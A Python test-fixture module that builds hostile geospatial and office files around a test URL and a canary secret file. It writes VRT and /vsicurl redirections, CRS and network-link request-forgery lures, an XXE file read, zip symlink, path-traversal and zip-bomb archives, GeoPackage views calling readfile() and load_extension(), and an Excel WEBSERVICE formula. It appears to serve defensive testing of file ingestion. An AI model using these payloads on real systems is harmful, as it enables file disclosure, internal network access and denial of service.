"""Files that want more than to be read: made here, each by its kind, around an address and a secret file."""

from __future__ import annotations

import io
import json
import sqlite3
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import geopandas
import pyogrio
import shapely

SECRET = "canary-7f3a"
FEATURE = {"type": "Feature", "properties": {"name": "a"}, "geometry": {"type": "Point", "coordinates": [126.1, 47.0]}}
Make = Callable[[Path, str, Path], Path]


def vrt(source: str) -> str:
    """Return a virtual layer that shows another file's rows as its own."""
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{source}</SrcDataSource>'
        "<GeometryType>wkbNone</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
    )


def texts(url: str, secret: Path) -> dict[str, str]:
    """Return what stands in files that a library may take for something else, by what it is."""
    link = {"type": "link", "properties": {"href": f"{url}/crs", "type": "proj4"}}
    named = {"type": "name", "properties": {"name": f"{url}/def/crs/EPSG/0/4326"}}
    return {
        "vrt of a file": vrt(str(secret)),
        "vrt of an address": vrt(f"/vsicurl/{url}/secret.csv"),
        "vrt after a mark": "\ufeff" + vrt(f"/vsicurl/{url}/secret.csv"),
        "wfs": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
        "wfs by name": f"WFS:{url}/wfs",
        "wfs capabilities": f'<WFS_Capabilities version="1.1.0"><a href="{url}/wfs"/></WFS_Capabilities>',
        "oapif": json.dumps({"links": [{"rel": "data", "href": f"{url}/collections"}], "conformsTo": []}),
        "oapif items": json.dumps(collection() | {"links": [{"rel": "next", "href": f"{url}/items?page=2"}]}),
        "ogcapi": json.dumps({"links": [{"rel": "self", "href": f"{url}/"}], "title": "OGC API"}),
        "crs link": json.dumps(collection() | {"crs": link}),
        "crs by address": json.dumps(collection() | {"crs": named}),
        "crs link of a geometry": json.dumps(collection({**FEATURE["geometry"], "crs": link})),  # type: ignore[dict-item]
        "crs named twice": json.dumps(collection())[:-1] + f', "crs": {json.dumps(link)}, "crs": null}}',
        "crs of wkt": json.dumps(
            collection() | {"crs": {"type": "name", "properties": {"name": f"/vsicurl/{url}/a.prj"}}}
        ),
        "esri paging": json.dumps(
            {"exceededTransferLimit": True, "features": [], "url": f"{url}/FeatureServer/0/query"}
        ),
        "gml": f'<?xml version="1.0"?><FeatureCollection xmlns="http://www.opengis.net/gml" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {url}/a.xsd"/>',
        "kml network link": f'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink>'
        f"<Link><href>{url}/a.kml</href></Link></NetworkLink></Document></kml>",
        "xml entity": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://{secret}">]><a>&b;</a>',
        "gdalg": json.dumps(
            {"type": "gdal_streamed_alg", "command_line": f"gdal vector read /vsicurl/{url}/secret.csv"}
        ),
        "http by name": f"{url}/a.geojson",
        "vsicurl by name": f"/vsicurl/{url}/a.geojson",
        "pg by name": "PG:host=127.0.0.1 dbname=a",
    }


def collection(geometry: Any = None) -> dict[str, Any]:
    """Return GeoJSON of one point."""
    feature = FEATURE if geometry is None else FEATURE | {"geometry": geometry}
    return {"type": "FeatureCollection", "features": [feature]}


def shapefile(folder: Path, **beside: str) -> Path:
    """Write a shapefile of one point, with files of these extensions beside it instead of its own."""
    frame = geopandas.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(126.1, 47.0)], crs="EPSG:4326")
    pyogrio.write_dataframe(frame, folder / "v.shp")
    for extension, text in beside.items():
        (folder / f"v.{extension}").write_text(text, encoding="utf-8")
    return folder / "v.shp"


def zipped(folder: Path, more: dict[str, str] | None = None, name: Callable[[str], str] = str, **beside: str) -> Path:
    """Zip a shapefile, under other names if asked, with more files."""
    inner = folder / "inner"
    inner.mkdir()
    shapefile(inner, **beside)
    with zipfile.ZipFile(folder / "v.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(inner.iterdir()):
            archive.writestr(name(path.name), path.read_bytes())
        for other, text in (more or {}).items():
            archive.writestr(other, text)
    return folder / "v.zip"


def zip_with_link(folder: Path, target: Path) -> Path:
    """Zip a link to a file of the machine, called as the table of a shapefile is."""
    path = zipped(folder, name=lambda name: name.replace(".dbf", ".old"))
    with zipfile.ZipFile(path, "a") as archive:
        entry = zipfile.ZipInfo("v.dbf")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, str(target))
    return path


def zip_that_lies(folder: Path) -> Path:
    """Zip a file that unpacks to more than its header says."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("v.shp", b"\0\0\x27\x0a" + b"\0" * 60_000_000)
    content = bytearray(made.getvalue())
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", content, content.index(mark) + at, 100)
    (folder / "v.zip").write_bytes(content)
    return folder / "v.zip"


def zip_of_shared_parts(folder: Path) -> Path:
    """Zip one part under many names: a few kilobytes that unpack to gigabytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("v.shp", b"\0\0\x27\x0a" + b"\0" * 10_000_000)
        entry = archive.getinfo("v.shp")
        for number in range(500):
            other = zipfile.ZipInfo(f"{number}.shp")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(other, field, getattr(entry, field))
            archive.filelist.append(other)
            archive.NameToInfo[other.filename] = other
    (folder / "v.zip").write_bytes(made.getvalue())
    return folder / "v.zip"


def geopackage(folder: Path, *statements: str) -> Path:
    """Write a GeoPackage of one point and change it by SQL."""
    frame = geopandas.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(126.1, 47.0)], crs="EPSG:4326")
    path = folder / "v.gpkg"
    pyogrio.write_dataframe(frame, path, layer="v")
    with sqlite3.connect(path) as store:
        for name in [row[0] for row in store.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")]:
            store.execute(f'DROP TRIGGER "{name}"')
        for statement in statements:
            store.execute(statement)
    store.close()
    return path


def as_layer(name: str) -> tuple[str, str]:
    """Return the SQL that makes a table or view a layer of points."""
    return (
        "INSERT INTO gpkg_contents(table_name, data_type, identifier, srs_id) "
        f"VALUES ('{name}', 'features', '{name}', 4326)",
        f"INSERT INTO gpkg_geometry_columns VALUES ('{name}', 'geom', 'POINT', 4326, 0, 0)",
    )


def workbook(folder: Path, url: str) -> Path:
    """Write a workbook with links to other workbooks."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["name", "lon", "lat", "population"])
    sheet.append([f'=WEBSERVICE("{url}/a")', 126.1, 47.0, "='[1]Sheet1'!A1"])
    book.save(folder / "v.xlsx")
    with zipfile.ZipFile(folder / "v.xlsx", "a") as archive:
        archive.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="a" Target="{url}/a.xlsx" TargetMode="External"/></Relationships>',
        )
    return folder / "v.xlsx"


def archives(url: str, secret: Path) -> dict[str, Callable[[Path], Path]]:
    """Return how to write files of more than text, by what they are."""
    remote = f"/vsicurl/{url}/secret.csv"
    return {
        "shapefile with a vrt": lambda folder: shapefile(folder, vrt=vrt(remote)),
        "shapefile with an address for its system": lambda folder: shapefile(folder, prj=f"{url}/a.prj"),
        "shapefile with a path for its system": lambda folder: shapefile(folder, prj=f"/vsicurl/{url}/a.prj"),
        "shapefile with a vrt for its table": lambda folder: shapefile(folder, dbf=vrt(remote)),
        "zip with a vrt": lambda folder: zipped(folder, {"v.vrt": vrt(remote), "a.geojson": vrt(str(secret))}),
        "zip of a vrt": lambda folder: zipped(folder, name=lambda name: "x" + name, more={"v.shp": vrt(remote)}),
        "zip with an address for its system": lambda folder: zipped(folder, prj=f"{url}/a.prj"),
        "zip with a link": lambda folder: zip_with_link(folder, secret),
        "zip that leads out": lambda folder: zipped(folder, {f"../../{secret.name}": "x"}),
        "zip with a whole path": lambda folder: zipped(folder, {str(secret): "x"}),
        "zip with a drive": lambda folder: zipped(folder, {"c:\\a.txt": "x"}),
        "zip that lies": zip_that_lies,
        "zip of shared parts": zip_of_shared_parts,
        "geopackage with a view": lambda folder: geopackage(folder, "CREATE VIEW w AS SELECT * FROM v", *as_layer("w")),
        "geopackage with a view that looks": lambda folder: geopackage(
            folder,
            f"CREATE VIEW w AS SELECT 1 AS fid, readfile('{secret}') AS name, geom FROM v",
            *as_layer("w"),
        ),
        "geopackage whose table is a view": lambda folder: geopackage(
            folder, "ALTER TABLE v RENAME TO u", f"CREATE VIEW v AS SELECT fid, geom, load_extension('{secret}') FROM u"
        ),
        "geopackage with a trigger": lambda folder: geopackage(
            folder, "CREATE TRIGGER t AFTER INSERT ON v BEGIN SELECT load_extension('a'); END"
        ),
        "geopackage with an address for its system": lambda folder: geopackage(
            folder,
            f"UPDATE gpkg_spatial_ref_sys SET definition = '{url}/a.prj', organization = 'NONE' WHERE srs_id = 4326",
        ),
        "geopackage with a column that is worked out": lambda folder: geopackage(
            folder, "ALTER TABLE v ADD COLUMN w TEXT GENERATED ALWAYS AS (hex(name)) VIRTUAL"
        ),
        "workbook with links": lambda folder: workbook(folder, url),
    }
